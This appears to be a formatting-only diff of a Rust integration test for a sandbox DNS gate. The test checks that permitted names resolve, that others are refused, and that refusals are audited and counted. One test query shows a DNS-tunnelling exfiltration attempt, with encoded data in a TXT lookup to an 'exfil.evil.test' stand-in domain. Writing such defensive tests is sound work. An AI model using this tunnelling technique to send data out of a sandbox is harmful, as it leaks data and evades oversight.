@@ -16,7 +16,10 @@ async fn ask(server: std::net::SocketAddr, name: &str, qtype: RecordType) -> Mes
     m.add_query(Query::query(Name::from_ascii(name).unwrap(), qtype));
     sock.send_to(&m.to_vec().unwrap(), server).await.unwrap();
     let mut buf = [0u8; 1500];
-    let (n, _) = tokio::time::timeout(Duration::from_secs(5), sock.recv_from(&mut buf)).await.unwrap().unwrap();
+    let (n, _) = tokio::time::timeout(Duration::from_secs(5), sock.recv_from(&mut buf))
+        .await
+        .unwrap()
+        .unwrap();
     Message::from_vec(&buf[..n]).unwrap()
 }
 
@@ -24,22 +27,43 @@ async fn ask(server: std::net::SocketAddr, name: &str, qtype: RecordType) -> Mes
 async fn cells_resolve_only_what_they_may_reach() {
     let f = Fixture::start_with(|c| {
         c.dns = Some("127.0.0.1:0".parse().unwrap());
-        c.pods.push(("127.0.0.1".parse().unwrap(), "agents".into(), "demo".into()));
+        c.pods
+            .push(("127.0.0.1".parse().unwrap(), "agents".into(), "demo".into()));
     })
     .await;
     let dns = f.node().dns_addr.unwrap();
     let ok = ask(dns, "api.test.", RecordType::A).await;
     assert_eq!(ok.metadata.response_code, ResponseCode::NoError);
-    let addrs: Vec<_> = ok.answers.iter().filter_map(|r| match &r.data { RData::A(a) => Some(a.0), _ => None }).collect();
+    let addrs: Vec<_> = ok
+        .answers
+        .iter()
+        .filter_map(|r| match &r.data {
+            RData::A(a) => Some(a.0),
+            _ => None,
+        })
+        .collect();
     assert_eq!(addrs, vec![std::net::Ipv4Addr::LOCALHOST], "{ok:?}");
 
     let no = ask(dns, "evil.test.", RecordType::A).await;
     assert_eq!(no.metadata.response_code, ResponseCode::NXDomain);
     // Data smuggled in a TXT query to a name no capability allows.
-    let exfil = ask(dns, "mzxw6ytboi2dmnzsgq3tmmrvgy.exfil.evil.test.", RecordType::TXT).await;
+    let exfil = ask(
+        dns,
+        "mzxw6ytboi2dmnzsgq3tmmrvgy.exfil.evil.test.",
+        RecordType::TXT,
+    )
+    .await;
     assert_eq!(exfil.metadata.response_code, ResponseCode::Refused);
-    f.wait_audit(|r| r["front_door"] == "dns" && r["reason"] == "dns_name_not_allowed" && r["host"] == "evil.test").await;
-    f.wait_audit(|r| r["front_door"] == "dns" && r["reason"] == "dns_qtype_refused" && r["cell"] == "demo").await;
+    f.wait_audit(|r| {
+        r["front_door"] == "dns"
+            && r["reason"] == "dns_name_not_allowed"
+            && r["host"] == "evil.test"
+    })
+    .await;
+    f.wait_audit(|r| {
+        r["front_door"] == "dns" && r["reason"] == "dns_qtype_refused" && r["cell"] == "demo"
+    })
+    .await;
     let m = f.admin_get("/metrics").await.body;
     assert!(m.contains("cellgate_dns_refused_total 1"), "{m}");
 }
